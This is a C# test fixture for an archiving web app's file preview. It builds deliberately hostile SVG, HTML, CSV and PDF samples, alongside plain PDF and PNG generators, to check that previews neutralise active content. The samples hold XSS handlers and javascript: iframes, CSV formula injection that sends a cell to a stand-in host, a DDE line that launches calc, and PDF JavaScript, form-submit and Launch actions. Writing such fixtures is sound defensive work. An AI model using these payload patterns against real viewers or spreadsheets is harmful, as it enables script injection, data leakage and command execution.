using System.Globalization;
using System.IO.Compression;
using System.Text;

namespace Archiver.Web.Tests.Preview;

/// <summary>Files that would do something if they were shown as they are: each calls <c>alert</c>, sets <c>window.hacked</c> or fetches from <see cref="Elsewhere"/>.</summary>
internal static class HostileFiles
{
    /// <summary>A host that nothing may be fetched from.</summary>
    public const string Elsewhere = "http://elsewhere.invalid/";

    private const string Script = $"window.hacked=1;alert('hacked');fetch('{Elsewhere}fetched')";

    public static byte[] Svg => Encoding.UTF8.GetBytes($"""
        <?xml version="1.0"?>
        <!-- a picture -->
        <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="240" height="120" onload="{Script}">
          <script>{Script}</script>
          <style>@import url("{Elsewhere}style.css"); circle {"{"} fill: #2266cc {"}"}</style>
          <image xlink:href="{Elsewhere}pixel.png" width="10" height="10" />
          <foreignObject width="100" height="50"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:parent.hacked=1" /></body></foreignObject>
          <circle cx="120" cy="60" r="50" />
        </svg>
        """);

    public static byte[] Html => Encoding.UTF8.GetBytes($"""
        <!DOCTYPE html><html><body onload="{Script}"><script>{Script}</script><img src="{Elsewhere}pixel.png" onerror="{Script}">
        <iframe src="javascript:{Script}"></iframe><p>Quarterly report</p></body></html>
        """);

    public static byte[] Csv => Encoding.UTF8.GetBytes($"""
        name,total
        =HYPERLINK("{Elsewhere}leak?"&A1),1
        "=cmd|' /C calc'!A0",2
        <script>{Script.Replace("'", "", StringComparison.Ordinal)}</script>,3
        @SUM(1+1),4

        """);

    /// <summary>A document that acts wherever a document can, and shows a line of text.</summary>
    public static byte[] Pdf { get; } = Document(
        "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /URI << /Base (http://elsewhere.invalid/) >> "
        + "/Names << /JavaScript << /Names [(go) 6 0 R] >> /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >> /AcroForm << /Fields [8 0 R] /XFA 10 0 R /NeedAppearances true >> >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 420 200] /Resources << /Font << /A 5 0 R >> >> >>",
        "<< /Type /Page /Parent 2 0 R /Contents 4 0 R /AA << /O 6 0 R >> /Annots [7 0 R 8 0 R 11 0 R] >>",
        Stream("", "BT /A 24 Tf 30 120 Td (Quarterly report) Tj ET"),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        "<< /Type /Action /S /JavaScript /JS (app.alert\\('hacked'\\); this.submitForm\\('http://elsewhere.invalid/form'\\);) >>",
        "<< /Type /Annot /Subtype /Link /Rect [0 0 420 200] /A << /S /URI /URI (http://elsewhere.invalid/link) >> >>",
        "<< /Type /Annot /Subtype /Widget /FT /Tx /T (total) /V (42) /Rect [30 40 200 70] /AP << /N 12 0 R >> /A 6 0 R /AA << /PO 6 0 R /E 6 0 R >> >>",
        "<< /Type /Filespec /F (a.exe) /EF << /F 13 0 R >> >>",
        Stream("", "<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.alert('hacked')</script></xdp:xdp>"),
        "<< /Type /Annot /Subtype /Screen /Rect [0 0 10 10] /A << /S /Launch /F (calc.exe) >> >>",
        Stream("/Type /XObject /Subtype /Form /BBox [0 0 170 30] /Resources << /Font << /A 5 0 R >> >>", "BT /A 12 Tf 4 10 Td (Total 42) Tj ET"),
        Stream("/Type /EmbeddedFile", "MZ"));

    /// <summary>A document that has a page, and nothing that acts.</summary>
    public static byte[] PlainPdf { get; } = Document(
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R /Resources << >> >>",
        Stream("", "0 0 1 rg 10 10 50 50 re f"));

    /// <summary>A document of objects from 1, the first its catalog.</summary>
    public static byte[] Document(params string[] objects)
    {
        StringBuilder document = new("%PDF-1.7\n");
        List<int> offsets = [];
        for (int i = 0; i < objects.Length; i++)
        {
            offsets.Add(document.Length);
            document.Append(CultureInfo.InvariantCulture, $"{i + 1} 0 obj\n{objects[i]}\nendobj\n");
        }
        int table = document.Length;
        document.Append(CultureInfo.InvariantCulture, $"xref\n0 {objects.Length + 1}\n0000000000 65535 f \n");
        foreach (int offset in offsets) document.Append(CultureInfo.InvariantCulture, $"{offset:D10} 00000 n \n");
        document.Append(CultureInfo.InvariantCulture, $"trailer\n<< /Size {objects.Length + 1} /Root 1 0 R >>\nstartxref\n{table}\n%%EOF\n");
        return Encoding.Latin1.GetBytes(document.ToString());
    }

    /// <summary>A stream object's text.</summary>
    public static string Stream(string entries, string content) =>
        string.Create(CultureInfo.InvariantCulture, $"<< {entries} /Length {content.Length} >>\nstream\n{content}\nendstream");

    /// <summary>A picture of one colour.</summary>
    public static byte[] Png(int width, int height)
    {
        using MemoryStream png = new();
        png.Write([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]);
        byte[] head = new byte[13];
        System.Buffers.Binary.BinaryPrimitives.WriteInt32BigEndian(head, width);
        System.Buffers.Binary.BinaryPrimitives.WriteInt32BigEndian(head.AsSpan(4), height);
        (head[8], head[9]) = (8, 2);
        Chunk(png, "IHDR", head);
        using MemoryStream pixels = new();
        using (ZLibStream packed = new(pixels, CompressionLevel.Fastest, leaveOpen: true))
        {
            byte[] row = new byte[1 + (3 * width)];
            for (int x = 0; x < width; x++) (row[1 + (3 * x)], row[2 + (3 * x)], row[3 + (3 * x)]) = (0x22, 0x88, 0x66);
            for (int y = 0; y < height; y++) packed.Write(row);
        }
        Chunk(png, "IDAT", pixels.ToArray());
        Chunk(png, "IEND", []);
        return png.ToArray();
    }

    private static void Chunk(Stream png, string type, byte[] content)
    {
        byte[] number = new byte[4];
        System.Buffers.Binary.BinaryPrimitives.WriteInt32BigEndian(number, content.Length);
        png.Write(number);
        byte[] body = [.. Encoding.ASCII.GetBytes(type), .. content];
        png.Write(body);
        uint crc = uint.MaxValue;
        foreach (byte octet in body)
        {
            crc ^= octet;
            for (int bit = 0; bit < 8; bit++) crc = (crc & 1) == 0 ? crc >> 1 : (crc >> 1) ^ 0xEDB88320;
        }
        System.Buffers.Binary.BinaryPrimitives.WriteUInt32BigEndian(number, ~crc);
        png.Write(number);
    }
}
